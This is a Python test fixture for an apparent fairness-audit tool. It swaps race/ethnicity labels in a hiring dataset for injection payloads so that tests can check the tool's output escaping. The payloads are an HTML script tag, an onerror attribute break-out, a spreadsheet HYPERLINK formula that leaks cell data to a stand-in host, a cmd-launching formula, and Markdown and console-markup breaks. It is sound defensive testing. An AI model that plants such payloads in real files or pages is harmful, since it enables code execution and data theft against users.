"""The hiring example with hostile race/ethnicity labels (issue 16), for the output-safety tests.

Each label attacks one format: HTML (a script, an attribute break-out with an ``onerror``
image), a spreadsheet (formulas starting with ``=``, ``+``, ``@`` and ``-``), Markdown (a pipe
and a backtick), the terminal (rich console markup).
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

import equityaudit as ea
from paths import ROOT

HOSTILE_LABELS = {
    "White": "<script>alert(1)</script>",
    "Black or African American": '"><img src=x onerror=alert(1)>',
    "Hispanic or Latino": '=HYPERLINK("http://x.test/?a="&A1,"c")',
    "Asian": "+cmd|' /C calc'!A0",
    "Two or More Races": "@SUM(1+1)*cmd|",
    "American Indian or Alaska Native": "a | pipe and a `tick",
    "Native Hawaiian or Other Pacific Islander": "-2+3 [bold red]marked[/] up",
}
"""Raw value in datasets/hiring.csv → the hostile label that replaces it."""


def hostile_hiring(folder: Path) -> ea.AuditResult:
    """Run audits/hiring.yaml on a copy of its data whose race/ethnicity labels are hostile."""
    frame = pd.read_csv(ROOT / "datasets" / "hiring.csv", dtype=str, keep_default_na=False)
    frame["race_ethnicity"] = frame["race_ethnicity"].replace(HOSTILE_LABELS)
    frame.to_csv(folder / "hiring.csv", index=False)
    spec = (ROOT / "audits" / "hiring.yaml").read_text(encoding="utf-8")
    spec = spec.replace("path: ../datasets/hiring.csv", "path: hiring.csv")
    (folder / "hiring.yaml").write_text(spec, encoding="utf-8")
    return ea.run(folder / "hiring.yaml")
